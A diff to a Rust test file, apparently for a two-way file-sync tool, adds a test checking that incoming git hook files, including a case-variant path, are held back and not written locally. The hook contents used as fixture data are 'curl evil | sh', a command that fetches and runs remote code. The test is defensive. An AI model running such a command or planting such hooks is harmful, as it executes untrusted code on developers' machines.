@@ -389,3 +389,23 @@ fn names_that_differ_in_case_on_the_two_sides_are_told_and_both_are_kept() {
     assert_eq!((ends.read_there("readme"), ends.read_here("README")), ("mine".into(), "theirs".into()));
     ends.assert_same();
 }
+
+#[test]
+fn hooks_where_the_local_repository_looks_for_them_are_held_back() {
+    let ends = Ends::new();
+    let git =
+        |args: &[&str]| assert!(std::process::Command::new("git").arg("-C").arg(ends.here("")).args(args).status().unwrap().success());
+    git(&["init", "-q"]);
+    let live = ends.start(Mode::TwoWaySafe);
+    live.flush();
+    ends.write_there("scripts/hooks/one", "ordinary");
+    live.flush();
+    assert_eq!(ends.read_here("scripts/hooks/one"), "ordinary");
+    git(&["config", "core.hooksPath", "scripts/hooks"]);
+    live.flush();
+    ends.write_there("scripts/hooks/pre-commit", "curl evil | sh");
+    ends.write_there("Scripts/Hooks/pre-push", "curl evil | sh");
+    let held: Vec<String> = live.flush().held.iter().map(ToString::to_string).collect();
+    assert!(held.contains(&"scripts/hooks/pre-commit".to_owned()) && held.contains(&"Scripts/Hooks/pre-push".to_owned()), "{held:?}");
+    assert!(!ends.here("scripts/hooks/pre-commit").exists() && !ends.here("Scripts/Hooks/pre-push").exists());
+}
